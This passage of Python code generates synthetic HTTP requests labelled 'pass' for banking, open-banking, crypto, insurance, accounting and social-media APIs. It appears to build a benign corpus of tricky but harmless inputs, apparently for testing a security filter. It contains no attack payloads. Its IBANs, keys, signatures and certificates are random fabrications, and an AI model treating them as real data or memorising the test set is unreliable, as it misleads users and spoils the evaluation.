        lines.append(":86:" + r.choice(["166?00GUTSCHRIFT?20EREF+E2E-4711?21SVWZ+RE 2024/0815?32O'BRIEN, SIOBHAN",
                                         "105?00LASTSCHRIFT?20SPOTIFY P2F3A9?32SPOTIFY AB",
                                         "020?00UEBERWEISUNG?20MIETE 12/2024?21WHG. 3 OG LINKS?32MUELLER & SOEHNE"]))
    lines.append(f":62F:C{r.randint(241101, 241130)}EUR{r.randint(100, 20000)},{r.randint(0, 99):02d}")
    lines.append("-")
    return "\r\n".join(lines)


def b_sepa_swift(out):
    g = G(out, "b-sepa", "banking", "pass")
    r = g.r
    for i in range(25):
        k = i % 6
        if k == 0:
            ib = rand_iban(r)
            g.add("iban-validate", "GET", BANK, "/v1/iban/validate",
                  query=[("iban", fmt_iban(ib) if r.random() < .5 else ib)], client=r.choice(["web", "ios", "android"]))
        elif k == 1:
            g.add("bic-lookup", "GET", BANK, "/v1/bic/" + r.choice(BICS), query=[("include", "address,sepa_reachability")],
                  client="web")
        elif k == 2:
            body = {"name": r.choice(NAMES), "iban": rand_iban(r), "bic": r.choice(BICS + [None]),
                    "nickname": r.choice(["Mum 💐", "Landlord (Whg. 3)", "Gym – monthly", "Zoë's savings", "Tax office / Finanzamt"]),
                    "reference": r.choice(["Miete 12/2024 – Whg. 3 OG links", "Rechnung Nr. 2024/0815", "Gift :-)", "Loan 3/12", "VAT Q4 — DE123456789"]),
                    "verify_payee": True}
            g.add("beneficiary", "POST", BANK, "/v1/beneficiaries", body=body, client=r.choice(["ios", "android", "web"]))
        elif k == 3:
            g.add("mt103", "POST", BANK, "/v1/swift/messages", body=mt103(r), ctype="text/plain; charset=us-ascii",
                  client="server", auth="Bearer " + jwt(r, f"https://{IDP}"))
        elif k == 4:
            body = {"format": "MT940", "account": rand_iban(r, "DE"), "content": mt940(r)}
            g.add("mt940-import", "POST", ACC, "/api/bank-statements/mt940", body=body, client="web")
        else:
            body = {"amount": {"value": f"{r.randint(1, 2000)}.{r.randint(0, 99):02d}", "currency": "EUR"},
                    "creditor": {"name": r.choice(NAMES), "iban": rand_iban(r)}, "instant": r.random() < .5,
                    "remittance": r.choice(["Pizza 🍕 Fr. Abend", "Rent split 50/50", "Konzertkarten x2 (Block C, Reihe 7)",
                                            "für's Geburtstagsgeschenk von Amélie", "Dinner @ Union Square Cafe"]),
                    "execution_date": iso_date(r)}
            g.add("sepa-transfer", "POST", BANK, "/v1/payments/sepa-credit-transfers", body=body,
                  client=r.choice(["ios", "android"]), extra=[("X-Idempotency-Key", uid(r))])


def ob_headers(r, with_sig=True):
    cert = b64(rbytes(r, 300))
    h = [("X-Request-ID", uid(r)), ("PSU-IP-Address", client_ip(r)),
         ("PSU-User-Agent", r.choice(BROWSER_UAS)),
         ("TPP-Redirect-URI", f"https://tpp.finapp.example/callback?state={pick(r, ALNUM, 16)}&lang=de"),
         ("TPP-Nok-Redirect-URI", "https://tpp.finapp.example/callback/error")]
    if with_sig:
        h += [("Digest", "SHA-256=" + b64(rbytes(r, 32))),
              ("Signature", 'keyId="SN=9FA1C2,CA=CN=D-TRUST CA 2-1 2015,O=D-Trust GmbH,C=DE",algorithm="rsa-sha256",'
                            'headers="digest x-request-id psu-id tpp-redirect-uri date",signature="' + b64(rbytes(r, 256)) + '"'),
              ("TPP-Signature-Certificate", cert), ("Date", "Tue, 03 Dec 2024 10:12:55 GMT")]
    h.append(("X-Forwarded-Client-Cert",
              f'By=spiffe://cluster.local/ns/openbanking/sa/psd2-api;Hash={hexs(r, 64)};'
              f'Subject="CN=FinApp Example Ltd,OU=PSDGB-FCA-{r.randint(100000, 999999)},O=FinApp Example Ltd,C=GB";'
              f'URI=;DNS=tpp.finapp.example'))
    return h


def b_openbanking(out):
    g = G(out, "b-openbanking", "banking", "pass")
    r = g.r
    for i in range(30):
        k = i % 7
        if k == 0:
            accs = [{"iban": rand_iban(r, "DE")} for _ in range(r.randint(1, 2))]
            body = {"access": {"accounts": accs, "balances": accs, "transactions": accs},
                    "recurringIndicator": True, "validUntil": "2025-03-01", "frequencyPerDay": 4,
                    "combinedServiceIndicator": False}
            g.add("bg-consent", "POST", OB, "/v1/consents", body=body, client="server", style="js",
                  extra=ob_headers(r) + [("PSU-ID", r.choice(USERNAMES))])
        elif k == 1:
            g.add("bg-accounts", "GET", OB, "/v1/accounts", query=[("withBalance", "true")], client="server",
                  extra=ob_headers(r, with_sig=False) + [("Consent-ID", pick(r, ALNUM, 32))])
        elif k == 2:
            g.add("bg-transactions", "GET", OB, f"/v1/accounts/{uid(r)}/transactions",
                  query=[("dateFrom", "2024-11-01"), ("dateTo", "2024-11-30"), ("bookingStatus", r.choice(["booked", "both", "pending"])),
                         ("withBalance", "true")],
                  client="server", extra=ob_headers(r, with_sig=False) + [("Consent-ID", pick(r, ALNUM, 32))])
        elif k == 3:
            jws_head = b64u(json.dumps({"alg": "PS256", "kid": pick(r, ALNUM, 27), "b64": False,
                                        "http://openbanking.org.uk/iat": ts(r), "http://openbanking.org.uk/iss": "0015800001041RHAAY/" + pick(r, ALNUM, 18),
                                        "http://openbanking.org.uk/tan": "openbanking.org.uk", "crit": ["b64", "http://openbanking.org.uk/iat", "http://openbanking.org.uk/iss", "http://openbanking.org.uk/tan"]},
                                       separators=(",", ":")))
            body = {"Data": {"Initiation": {"InstructionIdentification": pick(r, ALNUM, 16), "EndToEndIdentification": pick(r, ALNUM, 16),
                                            "InstructedAmount": {"Amount": f"{r.randint(1, 900)}.{r.randint(0, 99):02d}", "Currency": "GBP"},
                                            "CreditorAccount": {"SchemeName": "UK.OBIE.SortCodeAccountNumber", "Identification": pick(r, "0123456789", 14),
                                                                "Name": r.choice(["ACME Inc", "O'Neill & Daughters", "Smith's Bakery"])},
                                            "RemittanceInformation": {"Reference": "FRESCO-" + str(r.randint(100, 999)), "Unstructured": "Internal ops code 5120101"}}},
                    "Risk": {"PaymentContextCode": "EcommerceGoods", "MerchantCategoryCode": "5967", "MerchantCustomerIdentification": str(r.randint(10**6, 10**7)),
                             "DeliveryAddress": {"AddressLine": ["Flat 7", "Acacia Lodge"], "StreetName": "Acacia Avenue", "BuildingNumber": "27", "PostCode": "GU31 2ZZ", "TownName": "Sparsholt", "Country": "GB"}}}
            g.add("uk-ob-consent", "POST", OB, "/open-banking/v3.1/pisp/domestic-payment-consents", body=body, client="server", style="js",
                  auth="Bearer " + pick(r, ALNUM, 32),
                  extra=[("x-fapi-financial-id", "001580000103UAvAAM"), ("x-fapi-customer-ip-address", client_ip(r)),
                         ("x-fapi-interaction-id", uid(r)), ("x-idempotency-key", pick(r, ALNUM, 20)),
                         ("x-jws-signature", jws_head + ".." + b64u(rbytes(r, 256))),
                         ("X-SSL-Client-Cert", "-----BEGIN%20CERTIFICATE-----%0A" + quote(b64(rbytes(r, 90)), safe="") + "%0A" + quote(b64(rbytes(r, 90)), safe="") + "%0A-----END%20CERTIFICATE-----%0A"),
                         ("X-SSL-Client-Verify", "SUCCESS"), ("X-SSL-Client-S-DN", "CN=0015800001041RHAAY,OU=0015800001041RHAAY,O=OpenBanking,C=GB")])
        elif k == 4:
            assertion = jwt(r, "0015800001041RHAAY", extra={"jti": uid(r)}, alg="PS256")
            pairs = [("grant_type", "client_credentials"), ("scope", r.choice(["accounts payments", "openid accounts", "fundsconfirmations"])),
                     ("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"), ("client_assertion", assertion)]
            g.add("token", "POST", IDP, "/as/token.oauth2", body=form(pairs), ctype="application/x-www-form-urlencoded",
                  client="server", extra=[("X-Forwarded-Client-Cert", f'Hash={hexs(r, 64)};Subject="CN=FinApp Example Ltd,O=FinApp Example Ltd,C=GB"')])
        elif k == 5:
            req = jwt(r, "finapp-client", extra={"scope": "openid accounts", "claims": {"id_token": {"openbanking_intent_id": {"value": "urn-lumen-intent-" + uid(r), "essential": True}}}}, alg="PS256")
            g.add("authorize", "GET", IDP, "/authorize",
                  query=[("response_type", "code id_token"), ("client_id", pick(r, ALNUM, 22)),
                         ("redirect_uri", "https://tpp.finapp.example/callback"), ("scope", "openid accounts"),
                         ("state", pick(r, ALNUM, 24)), ("nonce", pick(r, ALNUM, 24)), ("request", req)],
                  client="web", accept="text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
                  referer="https://tpp.finapp.example/connect")
        else:
            g.add("funds-check", "POST", OB, "/v1/funds-confirmations",
                  body={"account": {"iban": rand_iban(r, "DE")}, "instructedAmount": {"currency": "EUR", "amount": f"{r.randint(1, 999)}.{r.randint(0, 99):02d}"},
                        "cardNumber": "4111********1111", "payee": r.choice(["Café Müller", "Marks & Spencer", "Toys\"R\"Us"])},
                  client="server", style="js", extra=ob_headers(r) + [("Consent-ID", pick(r, ALNUM, 32))])


def b_crypto(out):
    g = G(out, "b-crypto", "crypto", "pass")
    r = g.r
    syms = ["BTC-USDT", "ETH-EUR", "SOL-USDC", "XRP-EUR", "DOGE-USDT", "ADA-BTC", "PEPE-USDT", "ETH-BTC"]
    for i in range(35):
        k = i % 9
        if k == 0:
            g.add("orderbook", "GET", CX, "/api/v2/orderbook", query=[("market", r.choice(syms)), ("depth", r.choice([20, 50, 100])),
                                                                     ("aggregation", r.choice(["0.01", "0.1", "1"]))],
                  client=r.choice(["web", "bot"]))
        elif k == 1:
            g.add("klines", "GET", CX, "/api/v3/klines", query=[("symbol", r.choice(syms).replace("-", "")),
                                                              ("interval", r.choice(["1m", "15m", "1h", "4h", "1d"])),
                                                              ("startTime", ts(r) * 1000), ("limit", 500)], client="bot")
        elif k == 2:
            t = ts(r) * 1000
            pairs = [("symbol", r.choice(syms).replace("-", "")), ("side", r.choice(["BUY", "SELL"])), ("type", "LIMIT"),
                     ("timeInForce", "GTC"), ("quantity", f"0.{r.randint(1, 999):03d}"), ("price", str(r.randint(1000, 99000))),
                     ("newClientOrderId", "x-grid-" + hexs(r, 12)), ("recvWindow", 5000), ("timestamp", t)]
            body = qs(pairs)
            body += "&signature=" + hexs(r, 64)
            g.add("signed-order", "POST", CX, "/api/v3/order", body=body, ctype="application/x-www-form-urlencoded", client="bot",
                  extra=[("X-MBX-APIKEY", pick(r, ALNUM, 64))])
        elif k == 3:
            body = {"symbol": r.choice(syms), "side": r.choice(["buy", "sell"]), "type": r.choice(["limit", "stop_limit", "market"]),
                    "price": f"{r.uniform(0.1, 99000):.2f}", "quantity": f"{r.uniform(0.001, 50):.4f}", "timeInForce": r.choice(["GTC", "IOC", "FOK"]),
                    "clientOrderId": "bot-grid-" + hexs(r, 8), "postOnly": r.random() < .5, "reduceOnly": False,
                    "stopPrice": None if r.random() < .5 else f"{r.uniform(0.1, 99000):.2f}"}
            t = str(ts(r) * 1000)
            g.add("order", "POST", CX, "/api/v2/orders", body=body, client="bot",
                  extra=[("CH-ACCESS-KEY", pick(r, ALNUM, 32)), ("CH-ACCESS-TIMESTAMP", t),
                         ("CH-ACCESS-SIGN", b64(rbytes(r, 32))), ("CH-ACCESS-PASSPHRASE", pick(r, ALNUM, 12))])
        elif k == 4:
            asset, addr, net = r.choice([("BTC", btc_bech32(r), "BTC"), ("BTC", btc_legacy(r), "BTC"), ("ETH", eth_addr(r), "ERC20"),
                                         ("USDT", tron_addr(r), "TRC20"), ("SOL", sol_addr(r), "SOL"), ("USDC", eth_addr(r), "ARBITRUM")])
            body = {"asset": asset, "network": net, "address": addr, "amount": f"{r.uniform(0.0005, 3):.6f}",
                    "memo": None, "label": r.choice(["Ledger Nano X", "cold storage 🧊", "Mum's wallet", "Kraken deposit", ""]),
                    "twoFactorCode": pick(r, "0123456789", 6)}
            g.add("withdraw", "POST", WALLET, "/api/v1/withdrawals", body=body, client=r.choice(["ios", "android", "web"]))
        elif k == 5:
            g.add("xrp-withdraw", "POST", WALLET, "/api/v1/withdrawals",
                  body={"asset": r.choice(["XRP", "XLM"]), "address": "r" + pick(r, B58, 33), "destinationTag": str(r.randint(10**5, 10**9)),
                        "memo": r.choice(["orbit 4711", "Zoë ♥", "rent-dec"]), "amount": str(r.randint(10, 5000))},
                  client="web")
        elif k == 6:
            raw = "02000000000101" + hexs(r, 64) + "0000000000fdffffff02" + hexs(r, 120) + "0247304402" + hexs(r, 140) + "00000000"
            g.add("broadcast", "POST", WALLET, "/api/v1/tx/broadcast", body={"network": "bitcoin", "rawTx": raw}, client=r.choice(["web", "bot"]))
        elif k == 7:
            body = {"types": {"EIP712Domain": [{"name": "name", "type": "string"}, {"name": "version", "type": "string"},
                                               {"name": "chainId", "type": "uint256"}, {"name": "verifyingContract", "type": "address"}],
                              "Order": [{"name": "maker", "type": "address"}, {"name": "amount", "type": "uint256"}, {"name": "nonce", "type": "uint256"}]},
                    "primaryType": "Order",
                    "domain": {"name": "CoinHarbor DEX", "version": "1", "chainId": 42161, "verifyingContract": eth_addr(r)},
                    "message": {"maker": eth_addr(r), "amount": str(r.randint(10**15, 10**20)), "nonce": r.randint(1, 999)},
                    "signature": "0x" + hexs(r, 130),
                    "calldata": "0xa9059cbb000000000000000000000000" + hexs(r, 40) + hexs(r, 64)}
            g.add("eip712", "POST", CX, "/api/v2/dex/orders", body=body, client="web")
        else:
            body = {"name": r.choice(["grid BTC 58-72k", "DCA weekly ETH 🪙", "RSI<30 && vol>1.5x avg", "Martingale (careful!)"]),
                    "strategy": r.choice(["grid", "dca", "rsi-reversion"]),
                    "params": {"lower": "58000", "upper": "72000", "grids": 40, "stop_loss": "-8%", "take_profit": "+12.5%",
                               "entry": "rsi(14) < 30 and close > sma(200)", "schedule": "0 9 * * MON"},
                    "exchange": "coinharbor", "paper": r.random() < .5,
                    "notes": r.choice(["rebalance when RSI<30 && volume>avg*1.5", "don't touch till 2025!!", "pause if BTC.D > 60%", "max 3 open orders; 0.5% per level"])}
            g.add("bot-config", "PUT", CX, f"/api/v2/bots/{uid(r)}", body=body, client=r.choice(["web", "bot"]))


def b_insurance(out):
    g = G(out, "b-insurance", "insurance", "pass")
    r = g.r
    claim_texts = [
        "Rear-ended at a red light on Königsallee; the other driver admitted fault. Photos attached.",
        "Water damage from the flat above (Whg. 4) – ceiling in kitchen & hallway, approx. 12 m².",
        "Laptop stolen from café (Café L'Étoile) while I was ordering — police ref. 2024/118837.",
        "Phone dropped on the tram, screen cracked :( — model: iPhone 15 Pro, IMEI ends 4471",
        "Сломан бампер на парковке, виновник скрылся. Есть запись с видеорегистратора.",
        "\u200fتعرضت السيارة لحادث بسيط في موقف السيارات، مرفق صور الأضرار.",
        "旅行中に荷物が紛失しました。航空会社の証明書を添付します。",
        "Flight LH 1234 cancelled; hotel + meals = €312.40 (receipts 1/3, 2/3, 3/3)",
        "Dog (Bella, 4 y/o) needed surgery after eating a sock 🐶🧦 — vet invoice attached",
        "Hagelschaden am Dach & Carport; Gutachter war am 02.12. da.",
        "Bike stolen from the rack outside the gym; lock was cut. 'Trek FX 3' – frame no. WTU123C4567D",
        nfd("Xe máy bị trầy xước do va chạm nhẹ ở ngã tư, bên kia đã đồng ý bồi thường."),
    ]
    for i in range(25):
        k = i % 5
        if k == 0:
            body = {"product": "motor", "driver": {"dob": f"19{r.randint(60, 99)}-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}",
                                                   "licence_years": r.randint(1, 40), "name": r.choice(NAMES), "occupation": r.choice(["Software developer", "Nurse", "Self-employed (café owner)", "Student"])},
                    "vehicle": {"make": r.choice(["Škoda", "Volkswagen", "Citroën", "Tesla", "Toyota"]), "model": r.choice(["Octavia Combi 2.0 TDI", "Golf VIII 1.5 eTSI", "C3 Aircross", "Model 3 LR", "Yaris Hybrid"]),
                                "reg": r.choice(["B-MX 4711", "D 123 ABC", "AB12 CDE", "242-D-12345"]), "value": r.randint(5000, 60000)},
                    "postcode": r.choice(["10115", "D01 F5P2", "75004", "SW1A 1AA"]), "ncd_years": r.randint(0, 9),
                    "addons": r.sample(["breakdown", "legal", "windscreen", "courtesy_car"], 2)}
            g.add("motor-quote", "POST", INS, "/api/v2/quotes/motor", body=body, client=r.choice(["web", "ios", "android"]))
        elif k == 1:
            body = {"product": r.choice(["home", "contents", "travel", "pet"]), "address": r.choice(["Flat 3/2, 14 O'Connell St., Dublin", "Hauptstr. 1, 10115 Berlin", "12 rue de l'Église, 75004 Paris", "1600 Amphitheatre Pkwy #2B, Mountain View"]),
                    "sum_insured": r.randint(10000, 400000), "excess": r.choice([0, 150, 250, 500]), "start_date": iso_date(r),
                    "questions": {"flood_zone": False, "previous_claims": r.randint(0, 2), "alarm": "yes – NSI Gold", "notes": r.choice(["", "Home office (2 days/week)", "Listed building (Grade II)", "Holiday let < 90 days/yr"])}}
            g.add("home-quote", "POST", INS, "/api/v2/quotes", body=body, client="web")
        elif k == 2:
            ct, body = multipart(r, [("policy_number", f"SN-{r.randint(10**6, 10**7)}"), ("incident_date", iso_date(r)),
                                     ("description", r.choice(claim_texts)),
                                     ("photos[]", f"IMG_{r.randint(1000, 9999)}.jpg", "image/jpeg", fake_image(r)),
                                     ("photos[]", f"IMG_{r.randint(1000, 9999)}.HEIC", "image/heic", fake_image(r, "jpeg"))],
                                 style=r.choice(["webkit", "okhttp"]))
            g.add("claim-upload", "POST", INS, "/api/v2/claims", body=body, ctype=ct, client=r.choice(["web", "android"]))
        elif k == 3:
            g.add("claim-status", "GET", INS, f"/api/v2/claims/CLM-{r.randint(10**5, 10**6)}",
                  query=[("include", "timeline,documents,payments"), ("lang", r.choice(["de", "en", "ar", "ja"]))], client=r.choice(["web", "ios"]))
        else:
            body = {"message": r.choice(claim_texts + ["When will the assessor visit? I'm home Mon–Wed after 14:00.",
                                                        "Please use my new IBAN: " + fmt_iban(rand_iban(r, "DE")),
                                                        "Attached the receipts – total €1,249.99 (incl. 19% VAT)"]),
                    "attachments": [], "channel": "app"}
            g.add("claim-message", "POST", INS, f"/api/v2/claims/CLM-{r.randint(10**5, 10**6)}/messages", body=body,
                  client=r.choice(["ios", "android", "web"]))


def b_accounting(out):
    g = G(out, "b-accounting", "accounting", "pass")
    r = g.r
    formulas = ["=SUM(D2:D13)", "=VLOOKUP(A2,Rates!A:B,2,FALSE)", "=IF(C3>0,C3*0.19,0)", "=ROUND(B7*(1+$F$1),2)",
                "=SUMIFS(Ledger!E:E,Ledger!B:B,\"Travel\",Ledger!C:C,\">=\"&DATE(2024,1,1))", "=XLOOKUP(A5,Clients!A:A,Clients!D:D,\"n/a\")",
                "=TEXT(TODAY(),\"YYYY-MM-DD\")", "=B2-B3", "=AVERAGE(E2:E31)", "=IFERROR(D4/C4,0)", "=EOMONTH(A2,0)",
                "=COUNTIF(F:F,\"overdue\")"]
    tax_ids = ["DE123456789", "GB 123 4567 89", "FR40303265045", "IE6388047V", "27AAPFU0939F1ZV", "12-3456789",
               "ATU12345678", "ESB12345678", "NL123456789B01", "CHE-123.456.789 MWST", "PL5260250995", "IT12345678901"]
    for i in range(30):
        k = i % 6
        if k == 0:
            body = {"number": f"RE-2024-{r.randint(100, 999)}", "customer": {"name": r.choice(["Müller & Söhne GmbH", "O'Brien Consulting Ltd", "Café L'Étoile SARL", "株式会社サンプル", "Smith & Jones LLP"]),
                                                                             "vat_id": r.choice(tax_ids), "address": "Hauptstr. 1\n10115 Berlin"},
                    "lines": [{"description": r.choice(["Consulting – Nov 2024 (32 h × €95)", "Hosting \"Pro\" plan 12/2024", "Workshop: Excel & Power Query", "Travel expenses (see receipts #1–#4)"]),
                               "qty": r.randint(1, 40), "unit_price": f"{r.uniform(5, 500):.2f}", "vat_rate": r.choice([19, 7, 20, 0])} for _ in range(r.randint(1, 4))],
                    "notes": r.choice(["Payment terms: 14 days net / 2% Skonto within 7 days", "Reverse charge – §13b UStG", "Thank you for your business! :)", "Bitte Rechnungsnummer als Verwendungszweck angeben."]),
                    "due_date": iso_date(r)}
            g.add("invoice", "POST", ACC, "/api/v1/invoices", body=body, client="web")
        elif k in (1, 2):
            cell = f"{r.choice('BCDEFGH')}{r.randint(2, 60)}"
            body = {"sheet": r.choice(["Q4 Budget", "VAT 2024", "Payroll Nov", "Cashflow"]), "ref": cell, "formula": r.choice(formulas), "format": r.choice(["#,##0.00 €", "0.0%", "@", "yyyy-mm-dd"])}
            g.add("sheet-cell", "PATCH", ACC, f"/api/v1/workbooks/{uid(r)}/cells", body=body, client="web")
        elif k == 3:
            rows = ["Date,Description,Amount,VAT,Category"]
            for _ in range(r.randint(3, 7)):
                rows.append(f"{iso_date(r)},\"{r.choice(MERCHANTS).replace(chr(34), chr(34) * 2)}\",-{r.uniform(1, 300):.2f},{r.choice(['19%', '7%', '0%'])},{r.choice(['Office', 'Travel', 'Meals & Entertainment', 'Software', 'Misc.'])}")
            ct, body = multipart(r, [("mapping", '{"date":0,"description":1,"amount":2}'), ("file", f"export-{iso_date(r)}.csv", "text/csv", "\r\n".join(rows) + "\r\n")])
            g.add("csv-import", "POST", ACC, "/api/v1/transactions/import", body=body, ctype=ct, client="web")
        elif k == 4:
            g.add("tax-id-check", "GET", ACC, "/api/v1/tax-ids/validate", query=[("id", r.choice(tax_ids)), ("country", r.choice(["DE", "GB", "FR", "IN", "US"]))],
                  client="web")
        else:
            g.add("report", "GET", ACC, "/api/v1/reports/profit-and-loss",
                  query=[("from", "2024-01-01"), ("to", "2024-12-31"), ("group_by", r.choice(["month", "quarter", "category"])),
                         ("compare", "previous_year"), ("format", r.choice(["json", "xlsx", "pdf", "csv"])), ("currency", "EUR")],
                  client="web")


def b_txsearch(out):
    g = G(out, "b-txsearch", "banking", "pass")
    r = g.r
    for i in range(25):
        k = i % 4
        if k in (0, 1):
            pairs = [("q", r.choice(MERCHANTS)), ("from", "2024-11-01"), ("to", "2024-11-30")]
            if r.random() < .5:
                pairs += [("min_amount", "-100"), ("max_amount", "0")]
            pairs += [("category", r.choice(["groceries", "transport", "eating_out", "shopping", "bills"])),
                      ("sort", r.choice(["-booked_at", "booked_at", "-amount", "merchant"])), ("page", r.randint(1, 5))]
            g.add("tx-search", "GET", BANK, "/api/v1/transactions", query=pairs, client=r.choice(["web", "ios", "android"]))
        elif k == 2:
            body = {"query": r.choice(MERCHANTS + ["rent", "Miete Dezember", "refund O'Brien", "split with @anna 50/50", "pizza 🍕"]),
                    "filters": {"amount": {"gte": r.randint(0, 50), "lte": r.randint(100, 500)}, "categories": r.sample(["shopping", "bills", "travel", "income"], 2),
                                "tags": r.sample(["#business", "#tax-deductible", "#shared", "#reimbursable"], 1)},
                    "sort": [{"field": "booked_at", "order": "desc"}], "limit": 50}
            g.add("tx-search-json", "POST", BANK, "/api/v1/transactions/search", body=body, client=r.choice(["web", "ios"]))
        else:
            body = {"note": r.choice(["Dinner w/ Zoë & Liam — split 3 ways", "Work lunch → reimbursable", "Birthday gift for Mum 🎁",
                                      "DO NOT PAY AGAIN – already refunded!", "50% business use (home office)", "Refund pending (case #48213)"]),
                    "tags": r.sample(["business", "shared", "tax-deductible", "travel"], 2), "category": r.choice(["eating_out", "gifts", "office"])}
            g.add("tx-note", "PATCH", BANK, f"/api/v1/transactions/{uid(r)}", body=body, client=r.choice(["ios", "android"]))


def compose_post(r):
    text = r.choice(POSTS)
    if r.random() < .35:
        text += " " + " ".join(r.sample(HASHTAGS, r.randint(1, 3)))
    if r.random() < .25:
        text += " " + r.choice(URLS)
    if r.random() < .2:
        text = "@" + r.choice(USERNAMES) + " " + text
    return text


def b_posts(out):
    g = G(out, "b-posts", "social", "pass")
    r = g.r
    for i in range(45):
        k = i % 6
        client = r.choice(["web", "ios", "android"])
        if k in (0, 1, 2):
            body = {"text": compose_post(r), "visibility": r.choice(["public", "followers", "circle"]),
                    "reply_settings": r.choice(["everyone", "following", "mentioned"]), "media_ids": [str(r.randint(10**17, 10**18)) for _ in range(r.randint(0, 2))],
                    "lang": r.choice(["en", "de", "ru", "ar", "hi", "th", "zh", "ja", "ko", "vi", "tr", "pt"]),
                    "client_nonce": uid(r)}
            g.add("post", "POST", SOC, "/api/v2/posts", body=body, client=client)
        elif k == 3:
            text = r.choice(POSTS)
            if r.random() < .5:
                text = zalgo(r.choice(["the market is cursed today", "send help", "it's monday again", "who summoned me"]), r)
            g.add("post-form", "POST", SOCWEB, "/compose", body=form([("authenticity_token", b64(rbytes(r, 32))), ("status", text),
                                                                   ("visibility", "public"), ("spoiler_text", r.choice(["", "CW: politics", "spoilers S2E4 ⚠️"]))]),
                  ctype="application/x-www-form-urlencoded", client="web",
                  accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        elif k == 4:
            ext, mime, kind = r.choice([("jpg", "image/jpeg", "jpeg"), ("png", "image/png", "png"), ("webp", "image/webp", "webp")])
            ct, body = multipart(r, [("text", compose_post(r)), ("alt_text", r.choice(["Sunset over the Spree 🌅", "Screenshot of my budget spreadsheet", "My cat judging me", "Receipt (numbers blurred)"])),
                                     ("media", f"IMG_{r.randint(1000, 9999)}.{ext}", mime, fake_image(r, kind))],
                                 style="okhttp" if client == "android" else "webkit")
            g.add("post-media", "POST", SOC, "/api/v2/media", body=body, ctype=ct, client=client)
        else:
            g.add("search", "GET", SOC, "/api/v2/search",
                  query=[("q", r.choice(HASHTAGS + ["from:@select_all budgeting", "\"seed phrase\" scam", "O'Brien", "x_DROP_x", "#比特币 OR #BTC", "кэшбэк такси", "café müller", "-filter:replies lang:de", "union strike"])),
                         ("type", r.choice(["top", "latest", "people"])), ("cursor", b64u(json.dumps({"o": r.randint(20, 400)})))],
                  client=client)


def b_comments(out):
    g = G(out, "b-comments", "social", "pass")
    r = g.r
    for i in range(30):
        k = i % 5
        if k in (0, 1):
            body = {"post_id": str(r.randint(10**17, 10**18)), "body": r.choice(COMMENTS), "parent_id": r.choice([None, str(r.randint(10**17, 10**18))])}
            g.add("comment", "POST", SOC, "/api/v2/comments", body=body, client=r.choice(["web", "ios", "android"]))
        elif k == 2:
            g.add("forum-reply", "POST", FORUM, f"/api/v1/threads/{r.randint(1000, 99999)}/posts",
                  body={"raw": r.choice(COMMENTS), "reply_to_post_number": r.randint(1, 80)}, client="web")
        elif k == 3:
            g.add("forum-richtext", "POST", FORUM, f"/api/v1/threads/{r.randint(1000, 99999)}/posts",
                  body={"html": r.choice(RICH_HTML), "editor": "quill-2.0", "draft_key": "topic_" + str(r.randint(1000, 9999))}, client="web")
        else:
            g.add("react", "PUT", SOC, f"/api/v2/posts/{r.randint(10**17, 10**18)}/reactions/{quote(r.choice(['❤️', '😂', '🔥', '👍🏽', '🫡', '🏳️‍🌈']))}",
                  body={}, client=r.choice(["ios", "android", "web"]))


def b_profiles(out):
    g = G(out, "b-profiles", "social", "pass")
    r = g.r
    for i in range(30):
        k = i % 5
        client = r.choice(["web", "ios", "android"])
        if k in (0, 1):
            body = {"display_name": r.choice(DISPLAY_NAMES), "bio": r.choice(BIOS), "pronouns": r.choice(["she/her", "he/him", "they/them", ""]),
                    "location": r.choice(["Berlin 🇩🇪", "Dublin ☘️", "São Paulo", "القاهرة", "서울", "Hà Nội", "Lisbon → NYC", "Earth 🌍"]),
                    "links": [r.choice(URLS)] if r.random() < .5 else [], "birthday": {"month": r.randint(1, 12), "day": r.randint(1, 28), "visible": False}}
            g.add("profile", "PATCH", SOC, "/api/v2/me", body=body, client=client)
        elif k == 2:
            g.add("username-check", "GET", SOC, "/api/v2/usernames/available", query=[("u", r.choice(USERNAMES))], client=client)
        elif k == 3:
            g.add("user-page", "GET", SOC, "/api/v2/users/" + quote(r.choice(USERNAMES)) + "/" + r.choice(["followers", "posts", "likes"]),
                  query=[("limit", 20), ("cursor", b64u(str(r.randint(10**8, 10**9))))], client=client)
        else:
            if r.random() < .5:
                ct, body = multipart(r, [("avatar", r.choice(["avatar.png", "me 😎.jpg", "profilbild_2024.jpeg", "O'Brien-headshot.jpg"]), "image/jpeg", fake_image(r)),
                                         ("crop", "0,0,512,512")], style="okhttp" if client == "android" else "webkit")
                g.add("avatar-upload", "PUT", SOC, "/api/v2/me/avatar", body=body, ctype=ct, client=client)
            else:
                g.add("avatar-import", "POST", SOC, "/api/v2/me/avatar/import",
                      body={"url": r.choice(["https://www.gravatar.com/avatar/" + hexs(r, 32) + "?s=512&d=identicon",
                                             "https://pbs.twimg.com/profile_images/1593303112345/AbCdEf_400x400.jpg",
                                             "https://avatars.githubusercontent.com/u/" + str(r.randint(10**5, 10**8)) + "?v=4",
                                             "https://lh3.googleusercontent.com/a/ACg8ocK" + pick(r, ALNUM, 40) + "=s96-c"])},
                      client=client)


def b_dating(out):
    g = G(out, "b-dating", "dating", "pass")
    r = g.r
    msgs = ["Hey! I see you like hiking too 🥾 what's your favourite trail?", "Haha your bio made me laugh 😂 \"coffee >= tea\" is so true",
            "I'm 5'11\" and yes I'll reach the top shelf for you 😉", "Salut ! Tu fais quoi ce week-end ?", "Hola 👋 ¿de dónde eres?",
            "Привет! Как прошёл твой день?", "\u200fمرحبا! كيف حالك اليوم؟", "안녕하세요! 프로필 사진 정말 멋져요 📸",
            "Your dog is adorable!!! 🐶 what's their name?", "Coffee on Saturday? ☕ Café Müller @ 11?",
            "I'd rate this conversation 10/10 so far ;)", "Sorry for the late reply — work was 🤯 this week",
            "Wanna grab drinks at The Union Bar & Grill? 🍸", "Ok but pineapple on pizza: yes or no? 🍍🍕"]
    for i in range(20):
        k = i % 4
        if k in (0, 1):
            g.add("message", "POST", DATE, f"/v3/matches/{uid(r)}/messages", body={"text": r.choice(msgs), "client_msg_id": uid(r)},
                  client=r.choice(["ios", "android"]))
        elif k == 2:
            body = {"age_min": r.randint(18, 30), "age_max": r.randint(31, 60), "distance_km": r.choice([5, 10, 25, 50]),
                    "genders": r.sample(["woman", "man", "nonbinary"], r.randint(1, 2)), "looking_for": r.choice(["long-term", "short-term", "friends", "figuring it out 🤷"]),
